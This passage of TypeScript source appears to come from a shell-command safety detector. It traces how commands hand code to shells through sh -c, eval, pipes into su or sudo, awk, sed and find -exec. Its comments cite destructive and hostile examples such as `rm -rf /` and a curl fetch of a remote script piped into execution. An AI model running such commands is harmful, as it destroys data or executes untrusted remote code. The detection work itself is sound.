/**
 * Text a command hands to a shell (or to system()) as code, so the detector can parse and judge
 * it like the outer command: `sh -c '…'`, `eval …`, `sh <<< '…'`, `bash <<EOF`, `echo '…' | sh`,
 * `printf '…' | bash`, `cat <<EOF | sh`, and the shell-outs of inline interpreter code
 * (`python3 -c "os.system('…')"`, `perl -e 'system "…"'`, `awk 'BEGIN{system("…")}'`).
 * Only literal text is returned: what a pipe carries from anything but echo/printf/cat of literal
 * words is unknown here. Each function is one linear pass over the command's words.
 *
 * A pipe can end in more than `sh`: `su`, `sudo -s`, `su -c sh`, `awk '{system($0)}'`,
 * `while read l; do $l; done`, `sed e`, `parallel` and `xargs sudo` also run each line they read as a
 * command ({@link readsStdinScript}), and `find … -exec sh -c '…' \;` hands its code on like `sh -c`
 * does; code made of simple commands is read as those commands, `{}` put in for `$0` (see {@link findActions}).
 */
import type { Cmd } from './shell-ast.ts';
import { decodeEscapes } from './shell-escapes.ts';
import { simpleScript } from './shell-fast.ts';
import { isWrapper, parallelRunsLines, readsStdinOperands, runsLoginShell, unwrap } from './shell-wrappers.ts';
import { getopt, type Getopt } from './shell-getopt.ts';

/** Shells whose `-c` takes a script and which read their script from stdin without one. */
export const SH = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'yash', 'posh', 'csh', 'tcsh', 'fish']);
/** sh options that take the next word (`-o pipefail`, `--rcfile f`). */
const SH_VALUE = /^[-+][a-zA-Z]*[oO]$|^--(rcfile|init-file)$/;

interface ShArgs {
  /** `-c` given: the first operand is the script. */
  readonly c: boolean;
  /** `-s` given: the script is stdin even with operands. */
  readonly s: boolean;
  readonly operands: string[];
}

/** Splits a shell's words into options and operands (`bash -c -- 'x'`: `--` ends options, it is not the script). */
function shArgs(args: string[]): ShArgs {
  let c = false;
  let s = false;
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '--' || a === '-') return { c, s, operands: args.slice(a === '--' ? i + 1 : i) };
    if (!/^[-+]./.test(a)) return { c, s, operands: args.slice(i) };
    if (!a.startsWith('--') && a.startsWith('-')) {
      if (a.includes('c')) c = true;
      if (a.includes('s')) s = true;
    }
    if (SH_VALUE.test(a)) i++;
  }
  return { c, s, operands: [] };
}

/** Files that are the process's own stdin. */
const STDIN_FILES = new Set(['-', '/dev/stdin', '/dev/fd/0', '/proc/self/fd/0']);

/**
 * True when a shell reads its script from stdin (`| sh`, `| bash -s`, `| sh -e`, `| bash /dev/fd/0`;
 * not `| sh -c …`, not `| sh file`). Under xargs, `sh -c` with no script takes the first word read
 * as the script, and `xargs -I{} sh -c {}` a whole line: stdin is code there too.
 */
export function shellReadsStdin(d: Cmd): boolean {
  if (!SH.has(d.name)) return false;
  const p = shArgs(d.args);
  const first = p.operands[0];
  if (p.c) return d.via?.includes('xargs') === true && (first === undefined || first.includes('{}') || /^[^\w\s]{1,4}$/.test(first));
  return p.s || first === undefined || STDIN_FILES.has(first);
}

/**
 * util-linux su and runuser, read as they read their words (su-common.c's getopt_long string):
 * `-c`/`--command` and `--session-command` carry shell code; runuser's `-u USER` makes its operands
 * the command itself.
 */
const SU: Getopt = {
  short: 'c:fg:G:lmpPs:u:w:',
  long: {
    command: ['c', true], 'session-command': ['c', true], fast: ['f', false], group: ['g', true], 'supp-group': ['G', true], login: ['l', false],
    'preserve-environment': ['m', false], pty: ['P', false], shell: ['s', true], user: ['u', true], 'whitelist-environment': ['w', true],
  },
};

/** su's or runuser's code (`-c`), whether a user was given with `-u`, and its operands (`-` alone means a login shell). */
function suArgs(args: string[]): { code: string | undefined; user: boolean; operands: string[] } {
  const { opts, operands } = getopt(args, SU);
  return { code: opts.get('c')?.[0], user: opts.has('u'), operands: operands.filter((o) => o !== '-') };
}

/**
 * `su`, `su -`, `su root`, `runuser -l root`: with no `-c` the user's login shell reads its script
 * from stdin, so `echo '…' | su` runs the text as that user. A second operand hands the shell a
 * script file instead; `runuser -u USER` is followed by the command itself.
 */
function suReadsStdin(d: Cmd): boolean {
  if (d.name !== 'su' && d.name !== 'runuser') return false;
  const p = suArgs(d.args);
  return p.code === undefined && p.operands.length <= (d.name === 'runuser' && p.user ? 0 : 1);
}

/** read's options whose value is the rest of the word or the next word (bash `read`). */
const READ_VALUE = 'adinNptu';
/** `$l`, `${l}`, `${l[@]}` as a whole word. */
const VAR_WORD = /^\$\{?([A-Za-z_][A-Za-z0-9_]*)(?:\[[@*]\])?\}?$/;
/** Every `$name` / `${name…}` in a word. */
const VAR_REF = /\$\{?([A-Za-z_][A-Za-z0-9_]*)/g;

/** The variables `read` fills (REPLY when none is named; `-a NAME` fills an array). */
function readVars(args: string[]): Set<string> {
  const vars = new Set<string>();
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (!/^-[a-zA-Z]/.test(a)) {
      vars.add(a);
      continue;
    }
    for (let k = 1; k < a.length; k++) {
      const letter = a[k] as string;
      if (!READ_VALUE.includes(letter)) continue;
      const value = k < a.length - 1 ? a.slice(k + 1) : (args[++i] ?? '');
      if (letter === 'a') vars.add(value);
      break;
    }
  }
  if (vars.size === 0) vars.add('REPLY');
  return vars;
}

const refsAny = (text: string, vars: Set<string>): boolean => [...text.matchAll(VAR_REF)].some((m) => vars.has(m[1] as string));

/**
 * `while read l; do $l; done` / `do eval "$l"` / `do sh -c "$l"`: a loop that runs each line it
 * reads as a command, which is what `| sh` does with the same lines.
 */
function readLoopRunsLines(d: Cmd): boolean {
  if (d.name !== 'read' || !d.loopBody) return false;
  const vars = readVars(d.args);
  return d.loopBody.some((b) => {
    const v = VAR_WORD.exec(b.rawName);
    if (v && vars.has(v[1] as string)) return true;
    if (b.name === 'eval') return b.args.some((a) => refsAny(a, vars));
    const code = dashC(b);
    return code !== undefined && refsAny(code, vars);
  });
}

/*
 * The awk patterns below run on the program with each run of blanks collapsed to one space, so no two
 * adjacent optional blanks can split a long run of them, and none nests a quantifier: each stays
 * linear in the program.
 */
/** `cmd = $0`: a variable holding a field of the input line. */
const AWK_FROM_FIELD = /\b([A-Za-z_]\w*) ?= ?\$/g;
/** Runs of blanks in an awk program, collapsed to one space before the patterns below read it. */
const AWK_BLANKS = /[ \t\r\f\v]+/g;
/** `getline l` / `(getline l) > 0`: the next input line read into a variable (checked: not `… | getline l`, not `getline l < file`). */
const AWK_GETLINE_VAR = /\bgetline ([A-Za-z_]\w*)/g;
/** `system(`: the head of its argument is read where the match ends. */
const AWK_SYSTEM = /\bsystem ?\( ?(?:\( ?)?/g;
/** One blank string literal (`""`, `" "`) a concatenation may start with: `system("" $0)`. */
const AWK_BLANK_STRING = /" ?" ?/y;
/** A field (`$0`, `$NF`) or a variable name. */
const AWK_OPERAND = /\$\w+|[A-Za-z_]\w*/y;
/** `$0 | getline`, `cmd | getline`: the left side run as a command. */
const AWK_GETLINE_RUN = /(\$\w+|\b[A-Za-z_]\w*) ?\| ?getline\b/g;
/**
 * One statement printing the line, a field or a variable into a command: `print | "sh"`, `print $0 | "su"`,
 * `printf "%s\n", $0 | "sudo -s"`, `print l |& "bash"`. Group 1 is what is printed, group 2 the command.
 */
const AWK_PRINT_PIPE = /^ ?(?:print|printf ?\(? ?"%s(?:\\n)?" ?,) ?\(? ?(\$\w+|[A-Za-z_]\w*)? ?\)? ?\|&? ?"([^"]*)" ?\)? ?$/;

/** Variables an awk program fills from its input: `c = $0`, `getline l` (fields themselves are `$…`). */
function awkLineVars(code: string): Set<string> {
  const vars = new Set([...code.matchAll(AWK_FROM_FIELD)].map((m) => m[1] as string));
  for (const m of code.matchAll(AWK_GETLINE_VAR)) {
    // `"cmd" | getline l` reads the command's output and `getline l < f` a file: neither is the input.
    const after = m.index + m[0].length;
    if (/\|&? ?$/.test(code.slice(Math.max(0, m.index - 3), m.index)) || /^ ?</.test(code.slice(after, after + 2))) continue;
    vars.add(m[1] as string);
  }
  return vars;
}

/** What a concatenation at `at` starts with, past blank string literals: `$0` in `system("" $0 " 2>&1")`. */
function awkHead(code: string, at: number): string | undefined {
  let i = at;
  // Each literal is at least two characters; the bound keeps a run of them from being rescanned per call.
  for (let k = 0; k < 8; k++) {
    AWK_BLANK_STRING.lastIndex = i;
    if (!AWK_BLANK_STRING.test(code)) break;
    i = AWK_BLANK_STRING.lastIndex;
  }
  AWK_OPERAND.lastIndex = i;
  return AWK_OPERAND.exec(code)?.[0];
}

/** True when an awk command string (`"sh"`, `"sudo -s"`, `"su"`, `"busybox sh"`) is a shell reading its script from stdin. */
function awkPipeRunsLines(command: string): boolean {
  const d = simpleScript(command)?.cmds[0];
  return d !== undefined && readsStdinScript(d);
}

/**
 * True when an awk program runs the lines it reads as commands: a command string that starts with a
 * field or a variable filled from the input (`system($0)`, `system($0 "")`, `system(c " 2>&1")`,
 * `while ((getline l) > 0) system(l)`, `$0 | getline`), or the line printed into a shell
 * (`print | "sh"`, `printf "%s\n", $0 | "sudo -s"`). A command written first (`system("kill " $2)`)
 * takes the line as data.
 */
function awkRunsLines(d: Cmd): boolean {
  if (!AWK.has(d.name)) return false;
  const program = inlineCode(d);
  if (program === undefined) return false;
  const code = program.replace(AWK_BLANKS, ' ');
  const vars = awkLineVars(code);
  return awkRunsText(code, (x) => x.startsWith('$') || vars.has(x));
}

/**
 * True when awk code (blanks collapsed) runs as a command a string that starts with an operand
 * `holds` accepts (a field or a variable holding the text): `system(x …)`, `x | getline`, or
 * `print x | "sh"` (a bare `print` prints `$0`).
 */
function awkRunsText(code: string, holds: (operand: string) => boolean): boolean {
  const from = (x: string | undefined): boolean => x !== undefined && holds(x);
  for (const m of code.matchAll(AWK_SYSTEM)) if (from(awkHead(code, m.index + m[0].length))) return true;
  for (const m of code.matchAll(AWK_GETLINE_RUN)) if (from(m[1])) return true;
  // Statements end at `;`, braces, newlines, and the `)` of a loop or test heading its body
  // (`while ((getline l) > 0) print l | "sh"`).
  return code.split(/[;{}\n]|\)(?= ?print)/).some((st) => {
    const p = AWK_PRINT_PIPE.exec(st);
    return p !== null && from(p[1] ?? '$0') && awkPipeRunsLines(p[2] as string);
  });
}

/** Answers of {@link codeReadsStdin} per command: every earlier stage of a pipeline asks, and the code can be kilobytes long. */
const codeReader = new WeakMap<Cmd, boolean>();

/** `su -c sh`, `su -c 'bash -s'`, `sudo su -c bash`, `bash -c sh`: `-c` code that is itself a shell reading its script from stdin. */
function codeReadsStdin(d: Cmd): boolean {
  if (!SH.has(d.name) && d.name !== 'su' && d.name !== 'runuser') return false;
  let known = codeReader.get(d);
  if (known === undefined) {
    const code = dashC(d);
    const inner = code === undefined ? undefined : simpleScript(code)?.cmds[0];
    known = inner !== undefined && readsStdinScript(inner);
    codeReader.set(d, known);
  }
  return known;
}

/**
 * `| xargs sudo`, `| xargs -L1 env`, `| xargs nohup`: a wrapper given no program under xargs takes the
 * program and its arguments from the words read, so the text runs as a command (`command -v` only looks names up).
 */
function xargsRunsWords(d: Cmd): boolean {
  if (d.via?.includes('xargs') !== true || !isWrapper(d.name) || d.name === 'xargs') return false;
  return !((d.name === 'command' || d.name === 'builtin') && d.args.some((a) => /^-[a-zA-Z]*[vV]/.test(a)));
}

/**
 * What a GNU sed script runs: 's' when an `s///e` command runs the pattern space after writing text
 * of its own into it, 'e' for a bare `e` command or an `s///e` that only moves or drops text (`s/^//e`),
 * undefined when it runs nothing. One pass
 * over the script: delimited parts of addresses and `s`/`y` are skipped, text arguments end at a newline.
 */
function sedRuns(script: string): 's' | 'e' | undefined {
  const n = script.length;
  let found: 'e' | undefined;
  /** Index past the closing `delim` of a part starting at `j` (escapes skipped). */
  const past = (j: number, delim: string): number => {
    let k = j;
    while (k < n && script[k] !== delim) k += script[k] === '\\' ? 2 : 1;
    return k + 1;
  };
  const lineEnd = (j: number): number => {
    const k = script.indexOf('\n', j);
    return k < 0 ? n : k;
  };
  let i = 0;
  while (i < n) {
    const ch = script[i] as string;
    if (ch === '/') i = past(i + 1, '/');
    else if (ch === '\\' && i + 1 < n) i = past(i + 2, script[i + 1] as string);
    else if (ch === '#') i = lineEnd(i);
    else if (ch === 's' || ch === 'y') {
      const delim = script[i + 1];
      if (delim === undefined || delim === '\n' || delim === '\\') return found;
      const replacement = past(i + 2, delim);
      i = past(replacement, delim);
      if (ch === 's') {
        // A replacement of only `&` and `\N` back-references (or nothing: `s/^//e`) writes no text of its own.
        const writes = /[A-Za-z0-9]/.test(script.slice(replacement, i - 1).replace(/\\[0-9]/g, ''));
        while (i < n && /[gpeiImM0-9]/.test(script[i] as string)) {
          if (script[i++] !== 'e') continue;
          if (writes) return 's';
          found = 'e';
        }
        if (script[i] === 'w') i = lineEnd(i);
      }
    } else if (ch === 'e') {
      let j = i + 1;
      while (script[j] === ' ' || script[j] === '\t') j++;
      // `e` alone runs the pattern space; `e COMMAND` runs COMMAND (its own text, not the input).
      if (j >= n || script[j] === ';' || script[j] === '}' || script[j] === '\n') found = 'e';
      i = lineEnd(j);
    } else if ('aicrRwW'.includes(ch)) i = lineEnd(i);
    else if ('btTvqQlL:'.includes(ch)) {
      i++;
      while (i < n && script[i] !== ';' && script[i] !== '\n' && script[i] !== '}') i++;
    } else i++;
  }
  return found;
}

/** GNU sed's options that matter here: scripts (-e, -f), -l's value, and -i's attached-only suffix (`-ie` is the suffix `e`). */
const SED: Getopt = {
  short: 'e:f:l:i::nrsuEz',
  long: { expression: ['e', true], file: ['f', true], 'line-length': ['l', true], 'in-place': ['i', false], quiet: ['n', false], silent: ['n', false], sandbox: ['~sandbox', false] },
};

/**
 * The inline scripts of a sed command (`-f` files are not seen) and whether it reads stdin (no file
 * operand but `-`); none under `--sandbox`, which refuses the `e` command and flag.
 */
function sedScripts(args: string[]): { scripts: string[]; stdin: boolean } {
  const { opts, operands } = getopt(args, SED);
  if (opts.has('~sandbox')) return { scripts: [], stdin: false };
  const scripts = [...(opts.get('e') ?? [])];
  if (scripts.length === 0 && !opts.has('f') && operands.length > 0) scripts.push(operands.shift() as string);
  return { scripts, stdin: operands.every((o) => o === '-') };
}

/** How a GNU sed command runs the lines it reads: 's' for `s///e` (after substituting), 'e' for a bare `e`, undefined if it does not. */
function sedRunsLines(d: Cmd): 's' | 'e' | undefined {
  if (d.name !== 'sed' && d.name !== 'gsed') return undefined;
  const p = sedScripts(d.args);
  if (!p.stdin) return undefined;
  let kind: 's' | 'e' | undefined;
  for (const script of p.scripts) {
    const k = sedRuns(script);
    if (k === 's') return k;
    kind = kind ?? k;
  }
  return kind;
}

/**
 * True when `d` is GNU sed running each line it reads after an `s` command wrote text into it
 * (`sed 's/ez/rm/e'`): the code that runs is not the text piped in, like a transformation in front of `| sh`.
 */
export function rewritesBeforeRunning(d: Cmd): boolean {
  return sedRunsLines(d) === 's';
}

/**
 * True when `d` runs what it reads on stdin as commands: a shell reading its script from stdin
 * ({@link shellReadsStdin}), `source /dev/stdin`, a root or login shell (`su`, `su - root`,
 * `sudo -s`, `sudo -i`, `doas -s`, `pkexec`), `-c` code that is such a shell (`su -c sh`), an awk
 * program, a `while read` loop or GNU sed (`s///e`, `e`) that runs its lines, GNU parallel with no
 * command, or a wrapper with no program under xargs (`xargs sudo`).
 */
export function readsStdinScript(d: Cmd): boolean {
  if (d.name === 'source' || d.name === '.') return STDIN_FILES.has(d.args[0] ?? '') && d.args[0] !== '-';
  return shellReadsStdin(d) || suReadsStdin(d) || runsLoginShell(d.name, d.args) || codeReadsStdin(d) || xargsRunsWords(d) || (d.name === 'parallel' && parallelRunsLines(d.args)) || runsLines(d);
}

/**
 * Answers of {@link readLoopRunsLines}, {@link awkRunsLines} and {@link sedRunsLines}, per command:
 * every earlier stage of a pipeline asks about the same reader, and an awk or sed program can be
 * kilobytes long. Only `read`, awk and sed commands are stored, after extraction has settled their names and words.
 */
const linesRunner = new WeakMap<Cmd, boolean>();

function runsLines(d: Cmd): boolean {
  if (!(d.name === 'read' && d.loopBody) && !AWK.has(d.name) && d.name !== 'sed' && d.name !== 'gsed') return false;
  let known = linesRunner.get(d);
  if (known === undefined) {
    known = readLoopRunsLines(d) || awkRunsLines(d) || sedRunsLines(d) !== undefined;
    linesRunner.set(d, known);
  }
  return known;
}

/** `printf FORMAT ARGS…` output: escapes decoded, `%s`-style conversions filled from ARGS (format not reused). */
function printfText(args: string[]): string | undefined {
  if (args[0] === '-v') return undefined;
  const rest = args[0] === '--' ? args.slice(1) : args;
  const [format, ...values] = rest;
  if (format === undefined) return undefined;
  let k = 0;
  return decodeEscapes(format).replace(/%(%|[-#0 +]*\d*(?:\.\d+)?[a-zA-Z])/g, (m, conv: string) => (conv === '%' ? '%' : conv.endsWith('b') ? decodeEscapes(values[k++] ?? '', 'echo') : (values[k++] ?? '')));
}

/** `echo [-neE] WORDS…` output; escapes are decoded (sh's echo does, bash's with -e). */
function echoText(args: string[]): string {
  let i = 0;
  while (i < args.length && /^-[neE]+$/.test(args[i] as string)) i++;
  return decodeEscapes(args.slice(i).join(' '), 'echo');
}

/** Literal text a command writes to stdout, when it is echo, printf, or cat of a heredoc/here-string. */
export function literalOutput(c: Cmd): string | undefined {
  // Under xargs or parallel the words come from stdin, so they are not literal text.
  if (c.nested.length > 0 || readsStdinOperands(c.via)) return undefined;
  if (c.name === 'echo') return echoText(c.args);
  if (c.name === 'printf') return printfText(c.args);
  if (c.name === 'cat' && c.args.every((a) => a === '-')) {
    const r = c.redirects.find((x) => x.op.startsWith('<<'));
    return r ? r.target : undefined;
  }
  return undefined;
}

/** Filters that pass text through unchanged or only drop, reorder or copy whole lines. */
const PASS_THROUGH = new Set(['cat', 'tee', 'grep', 'egrep', 'fgrep', 'sort', 'uniq', 'head', 'tail', 'envsubst']);

/**
 * True when a pipeline stage hands on its input as whole lines (`tee log`, `grep -v '#'`, `sort -u`,
 * `cat -`), so what reaches the next stage is text already written. Byte cuts (`tail -c +2`) and
 * `grep -o` (parts of lines) can assemble a command that was not written, so they transform.
 */
export function passesThrough(c: Cmd): boolean {
  if (!PASS_THROUGH.has(c.name) || c.nested.length > 0) return false;
  if ((c.name === 'head' || c.name === 'tail') && c.args.some((a) => /^-[a-zA-Z]*c|^--bytes/.test(a))) return false;
  if (/grep$/.test(c.name) && c.args.some((a) => /^-[a-zA-Z]*o|^--only/.test(a))) return false;
  return true;
}

/** The script of `sh -c SCRIPT`, `su -c SCRIPT` / `su --command=SCRIPT`. */
function dashC(c: Cmd): string | undefined {
  if (SH.has(c.name)) {
    const p = shArgs(c.args);
    return p.c ? p.operands[0] : undefined;
  }
  if (c.name === 'su' || c.name === 'runuser') return suArgs(c.args).code;
  return undefined;
}

/** Options that put interpreter code in the next word, per interpreter. */
const CODE_OPT: Record<string, RegExp> = {
  python: /^-[a-zA-Z]*c$/,
  python2: /^-[a-zA-Z]*c$/,
  python3: /^-[a-zA-Z]*c$/,
  perl: /^-[a-zA-Z]*[eE]$/,
  ruby: /^-[a-zA-Z]*e$/,
  node: /^(-e|-p|--eval|--print)$/,
  nodejs: /^(-e|-p|--eval|--print)$/,
  php: /^-r$/,
  lua: /^-e$/,
};
const AWK = new Set(['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk']);

/** Inline program text of `python -c`, `perl -e`, `node -e`, `php -r`, `awk 'PROGRAM'`; undefined if none. */
export function inlineCode(c: Cmd): string | undefined {
  const opt = CODE_OPT[c.name] ?? (/^python3\.\d+$/.test(c.name) ? CODE_OPT.python : undefined);
  if (opt) {
    const i = c.args.findIndex((a) => opt.test(a));
    return i >= 0 ? c.args[i + 1] : undefined;
  }
  if (!AWK.has(c.name)) return undefined;
  for (let i = 0; i < c.args.length; i++) {
    const a = c.args[i] as string;
    if (a === '--') return c.args[i + 1];
    if (a === '-f' || a.startsWith('--file')) return undefined;
    if (a === '-F' || a === '-v') i++;
    else if (!a.startsWith('-')) return a;
  }
  return undefined;
}

/** Calls that run a string (or list of words) as a command, in Python, Perl, Ruby, PHP, Node and awk. */
const SHELL_OUT = /\b(?:system|popen|exec|execSync|execFile|execFileSync|spawn|spawnSync|call|run|check_call|check_output|getoutput|getstatusoutput|Popen|shell_exec|passthru|proc_open|pcntl_exec|qx)\b\s*[([]?\s*/g;
const MAX_SHELL_OUTS = 8;

/** Reads `'a', "b", …` (optionally in `[…]`) at `i`: the literals joined by blanks, or undefined. */
function literalsAt(code: string, i: number): string | undefined {
  const words: string[] = [];
  let j = i;
  if (code[j] === '[' || code[j] === '(') j++;
  while (j < code.length && words.length < 64) {
    while (code[j] === ' ') j++;
    const q = code[j];
    if (q !== '"' && q !== "'") break;
    let k = j + 1;
    while (k < code.length && code[k] !== q) k += code[k] === '\\' ? 2 : 1;
    if (k >= code.length) break;
    words.push(decodeEscapes(code.slice(j + 1, k)));
    j = k + 1;
    while (code[j] === ' ') j++;
    if (code[j] !== ',') break;
    j++;
  }
  return words.length > 0 ? words.join(' ') : undefined;
}

/**
 * Command strings the inline code passes to a shell-out call (`os.system('rm -rf /')`,
 * `subprocess.run(['rm','-rf','/'])`, `` `rm -rf /` `` in Perl/Ruby). Only literals: the point is
 * to judge what runs by the same rules, not to flag every `python -c` that calls system().
 */
export function shellOuts(code: string): string[] {
  const out: string[] = [];
  SHELL_OUT.lastIndex = 0;
  for (let m = SHELL_OUT.exec(code); m !== null && out.length < MAX_SHELL_OUTS; m = SHELL_OUT.exec(code)) {
    const lit = literalsAt(code, m.index + m[0].length);
    if (lit) out.push(lit);
  }
  // Backticks and %x(…) run a shell in Perl, Ruby and PHP.
  for (const m of code.matchAll(/`([^`]+)`|%x\(([^)]+)\)/g)) {
    if (out.length >= MAX_SHELL_OUTS) break;
    out.push((m[1] ?? m[2]) as string);
  }
  return out;
}

const FIND_EXEC = new Set(['-exec', '-execdir', '-ok', '-okdir']);
/** First words that make code more than simple commands (loops, tests, groups): left to the parser. */
const COMPOUND = new Set(['if', 'then', 'else', 'elif', 'fi', 'for', 'while', 'until', 'do', 'done', 'case', 'esac', 'function', 'select', 'in', 'time', 'coproc', '{', '}', '!', '[[', ']]']);

/** Commands, and words per command, read from one action's sh -c code (as the parse extracts at most 64 commands of 256 arguments). */
const MAX_DIRECT = 64;
const MAX_DIRECT_WORDS = 256;
const POSITIONAL = /\$(?:([0-9@*])|\{([0-9]+|[@*])\})/y;

/**
 * `$0`, `${1}`, `$@`, `$*` at `at` in sh -c code, read against the positional parameters the code is given
 * (`params[0]` is `$0`): the words it stands for and the index past it, or undefined for any other
 * expansion (`$f`, `${0%.txt}`, `$(…)`) or a parameter not given.
 */
function positional(code: string, at: number, params: string[]): { value: string[]; end: number } | undefined {
  const m = POSITIONAL;
  m.lastIndex = at;
  const hit = m.exec(code);
  if (!hit) return undefined;
  const key = (hit[1] ?? hit[2]) as string;
  if (key === '@' || key === '*') return params.length > 1 ? { value: params.slice(1), end: m.lastIndex } : undefined;
  const value = params[Number(key)];
  return value === undefined ? undefined : { value: [value], end: m.lastIndex };
}

/**
 * The simple commands of sh -c code, as words, with the positional parameters it is given put in
 * (`rm -rf "$0"` with `$0` = `{}` is `rm -rf {}`): words quoted with '…' or "…", separated by blanks,
 * commands by `;`, `&&`, `||` or newlines. Anything more (pipes, redirections, substitutions, other
 * expansions, escapes, compound commands, assignments) returns undefined and the code is parsed as a
 * script instead. One pass over the code; what parameters put in is bounded (`"$@$@$@…"` with many
 * parameters would otherwise multiply the text), past the bound the code is left to the parser too.
 */
function simpleCommands(code: string, params: string[]): string[][] | undefined {
  let room = 2 * code.length + 4096;
  const cmds: string[][] = [];
  let words: string[] = [];
  let word = '';
  let started = false;
  const endWord = (): void => {
    if (started) words.push(word);
    word = '';
    started = false;
  };
  const endCommand = (): void => {
    endWord();
    if (words.length > 0) cmds.push(words);
    words = [];
  };
  for (let i = 0; i < code.length; i++) {
    const ch = code[i] as string;
    if (ch === ' ' || ch === '\t') endWord();
    else if (ch === '\n' || ch === ';') endCommand();
    else if (ch === '&' || ch === '|') {
      if (code[i + 1] !== ch) return undefined;
      endCommand();
      i++;
    } else if (ch === "'") {
      const k = code.indexOf("'", i + 1);
      if (k < 0) return undefined;
      word += code.slice(i + 1, k);
      started = true;
      i = k;
    } else if (ch === '"') {
      let k = i + 1;
      while (k < code.length && code[k] !== '"') {
        const q = code[k] as string;
        if (q === '`' || q === '\\') return undefined;
        if (q === '$') {
          const p = positional(code, k, params);
          if (!p || (room -= p.value.join(' ').length) < 0) return undefined;
          const ref = code.slice(k, p.end);
          if ((ref === '$@' || ref === '${@}') && p.value.length !== 1) {
            // `"$@"` is one word per parameter, the text before it joined to the first and the
            // text after it to the last (`"$*"` is one word: joined below).
            if (p.value.length === 0) return undefined;
            words.push(word + p.value[0], ...p.value.slice(1, -1));
            word = p.value[p.value.length - 1] as string;
          } else word += p.value.join(' ');
          k = p.end;
        } else {
          word += q;
          k++;
        }
      }
      if (k >= code.length) return undefined;
      started = true;
      i = k;
    } else if (ch === '$') {
      const p = positional(code, i, params);
      if (!p || (room -= p.value.join(' ').length) < 0) return undefined;
      const whole = !started && /^$|^[ \t\n;&|]/.test(code.slice(p.end, p.end + 1));
      // Unquoted, the value is split into words; inside a longer word that would split it too.
      const split = p.value.flatMap((v) => v.split(/[ \t\n]+/)).filter(Boolean);
      if (whole) words.push(...split);
      else if (split.length === 1) {
        word += split[0];
        started = true;
      } else return undefined;
      i = p.end - 1;
    } else if ('<>()`\\'.includes(ch) || (ch === '#' && !started)) return undefined;
    else {
      word += ch;
      started = true;
    }
  }
  endCommand();
  if (cmds.length > MAX_DIRECT || cmds.some((w) => w.length > MAX_DIRECT_WORDS)) return undefined;
  return cmds.some((w) => COMPOUND.has(w[0] as string) || /^[A-Za-z_][A-Za-z0-9_]*\+?=/.test(w[0] as string)) ? undefined : cmds;
}

/** A command find runs, built from its words (wrappers unwrapped); `find` heads `via`, since its operands come from the walk. */
function actionCmd(find: Cmd, words: string[]): Cmd | undefined {
  const first = words[0];
  if (first === undefined) return undefined;
  const u = unwrap(first, words.slice(1));
  return { name: u.name, rawName: u.rawName, args: u.args, rawArgs: words.slice(1), via: ['find', ...u.via], redirects: [], downstream: [], inSubstitution: find.inSubstitution, nested: [], expands: [], assigns: [], start: find.start, end: find.end };
}

/**
 * A find action that runs sh -c code made of simple commands, as those commands with the parameters
 * it is given put in: `sh -c 'rm -rf "$0"' {} \;` is `rm -rf {}`, `sh -c "$0" 'rm -rf /'` is `rm -rf /`,
 * `sh -c {}` runs a command named `{}` (each file name as code). Undefined for anything else.
 */
function directForms(find: Cmd, action: Cmd): Cmd[] | undefined {
  if (!SH.has(action.name)) return undefined;
  const p = shArgs(action.args);
  const code = p.operands[0];
  if (!p.c || code === undefined) return undefined;
  const cmds = simpleCommands(code, p.operands.slice(1));
  return cmds?.map((w) => actionCmd(find, w)).filter((x): x is Cmd => x !== undefined);
}

export interface FindAction {
  /** `-exec`, `-execdir`, `-ok` or `-okdir`. */
  readonly op: string;
  readonly cmd: Cmd;
}

/** Answers of {@link findActions} per find command: the rules and the nested-script walk both ask. */
const findMemo = new WeakMap<Cmd, FindAction[]>();
/**
 * Commands judged from one find's actions, like the commands of one parse: {@link findActions} keeps
 * one more, so the rules can tell that the rest was not inspected.
 */
export const MAX_FIND_ACTIONS = 64;

/**
 * The commands of `find`'s actions (`-exec rm {} \;`, `-execdir … +`, `-ok …`), wrappers unwrapped and
 * sh -c code of simple commands read as those commands ({@link directForms}): each is judged by the
 * rules like a command of its own, with `{}` an unknown word.
 */
export function findActions(c: Cmd): FindAction[] {
  if (c.name !== 'find') return [];
  const known = findMemo.get(c);
  if (known) return known;
  const out: FindAction[] = [];
  for (let i = 0; i < c.args.length; i++) {
    const op = c.args[i] as string;
    if (!FIND_EXEC.has(op)) continue;
    // The command ends at `;`, or at `+` right after `{}` (find's own rule).
    let j = i + 1;
    while (j < c.args.length && c.args[j] !== ';' && !(c.args[j] === '+' && c.args[j - 1] === '{}')) j++;
    const action = actionCmd(c, c.args.slice(i + 1, j));
    if (action) for (const cmd of directForms(c, action) ?? [action]) out.push({ op, cmd });
    if (out.length > MAX_FIND_ACTIONS) {
      out.length = MAX_FIND_ACTIONS + 1;
      break;
    }
    i = j;
  }
  findMemo.set(c, out);
  return out;
}

/** Code one command hands on by its words: `sh -c CODE`, `su -c CODE`, `eval WORDS`, shell-outs in inline interpreter code. */
function ownCode(c: Cmd, out: string[]): void {
  const inner = dashC(c);
  if (inner) out.push(inner);
  // `sh -c 'rm -rf "$@"' _ /`: simple code read again with its parameters put in (as under find).
  if (inner && SH.has(c.name)) {
    const params = shArgs(c.args).operands.slice(1);
    const bound = params.length > 0 ? simpleCommands(inner, params) : undefined;
    if (bound) out.push(bound.map((words) => words.map(singleQuoted).join(' ')).join('\n'));
  }
  else if (c.name === 'eval') out.push(c.args.join(' '));
  const code = inlineCode(c);
  if (code) out.push(...shellOuts(code));
  if (code && AWK.has(c.name)) out.push(...awkPipes(code));
}

/** `print … | "cmd"` / `printf … | "cmd"` (or gawk's `|&`) and `"cmd" | getline`: a string literal on either side of an awk command pipe. */
const AWK_PIPE_TO = /\|&? ?"((?:[^"\\]|\\.)*)"/g;
const AWK_PIPE_FROM = /"((?:[^"\\]|\\.)*)" ?\| ?getline\b(?: ?([A-Za-z_]\w*))?/g;
/**
 * `print "…"` / `printf "…"` with literal text only, right before `| "cmd"` (the text the command
 * reads). Its repeated group holds a quantifier, unambiguous (a string ends at its first unescaped
 * quote), and it only reads the 512 characters before a pipe, so it stays bounded.
 */
const AWK_PRINTED = /\bprintf? ?\(? ?((?:"(?:[^"\\]|\\.)*" ?,? ?)+)\)? ?$/;

/**
 * Commands an awk program runs through its pipes, when written as literals: `print | "rm -rf /"`
 * and `"curl -s http://x/i.sh" | getline` run the string with sh; `print "rm -rf /" | "sh"` also
 * hands the printed text to a shell reading its script from stdin, so that text runs too, and a
